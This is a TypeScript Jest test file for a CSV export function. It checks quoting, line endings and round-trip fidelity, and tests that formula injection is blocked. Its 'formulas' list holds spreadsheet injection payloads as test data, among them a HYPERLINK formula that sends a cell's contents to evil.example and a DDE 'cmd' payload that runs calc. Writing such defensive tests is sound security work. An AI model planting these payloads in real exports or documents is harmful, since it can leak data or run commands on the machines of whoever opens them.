import { describe, expect, it } from '@jest/globals';
import { toCsv } from './csv';

/** The file's text for one cell. */
const cell = (value: string | number): string => toCsv([], [[value]]).slice('\uFEFF\r\n'.length, -'\r\n'.length);

/** An RFC 4180 reader, written independently of the writer. */
function read(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = csv.startsWith('\uFEFF') ? 1 : 0;
  while (at < csv.length) {
    let text = '';
    if (csv[at] === '"') {
      for (at++; !(csv[at] === '"' && csv[at + 1] !== '"'); at++) {
        if (at >= csv.length) throw new Error('A quote is never closed.');
        text += csv[at];
        if (csv[at] === '"') at++;
      }
      at++;
    } else {
      while (at < csv.length && csv[at] !== ',' && csv[at] !== '\r') text += csv[at++];
    }
    row.push(text);
    if (csv[at] === ',') at++;
    else if (csv.startsWith('\r\n', at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else throw new Error(`Neither a comma nor a line's end at ${at}.`);
  }
  return rows;
}

const plain = [
  '',
  'Ada',
  'reader@example.org',
  'Ada, Countess',
  'Ada "the Enchantress"',
  '"',
  'one\r\ntwo',
  'one\ntwo',
  'one\rtwo',
  ' led in by a blank',
  'led out by one ',
  'Zoë Müller',
  '李小龍',
  '👩🏽‍🎤 star',
  'שלום',
  'a=b',
  '1-2',
  "O'Hara",
  "'already",
  'semi;colon',
  'ta\tb',
];

const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1',
  '+49 170',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\tAda',
  '\rAda',
  '\nAda',
  '  =1+1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u202e=1',
  '\u0007=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '="a""b"',
  '=1,2',
  '-',
];

describe('CSV', () => {
  it('begins with a byte order mark and ends each line with CRLF', () =>
    expect(toCsv(['ID', 'Name'], [[1, 'Ada']])).toBe('\uFEFFID,Name\r\n1,Ada\r\n'));

  it('quotes cells with separators and doubles quotation marks', () => {
    expect(cell('a,b')).toBe('"a,b"');
    expect(cell('a"b')).toBe('"a""b"');
    expect(cell('a\r\nb')).toBe('"a\r\nb"');
    expect(cell('a b')).toBe('a b');
  });

  it.each(plain)('reads %j back unchanged', (text) => expect(read(toCsv(['x'], [[text]]))[1]).toEqual([text]));

  it.each(formulas)('stops %j from running as a formula, and changes nothing else', (text) =>
    expect(read(toCsv(['x'], [[text]]))[1]).toEqual([`'${text}`]),
  );

  it('leaves numbers alone, negative ones too', () => expect([cell(12), cell(-3)]).toEqual(['12', '-3']));

  it('keeps every cell in its row and column', () => {
    const all = [...plain, ...formulas];
    const table = read(
      toCsv(
        ['ID', 'Text', 'End'],
        all.map((text, id) => [id, text, 'end']),
      ),
    );
    expect(table).toHaveLength(all.length + 1);
    for (const [index, row] of table.slice(1).entries()) {
      expect(row).toHaveLength(3);
      expect([row[0], row[2]]).toEqual([String(index), 'end']);
    }
  });

  it('never starts a cell with the sign of a formula', () => {
    for (const [text = ''] of read(
      toCsv(
        ['x'],
        [...plain, ...formulas].map((each) => [each]),
      ),
    ).slice(1))
      expect(text).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠]/u);
  });
});
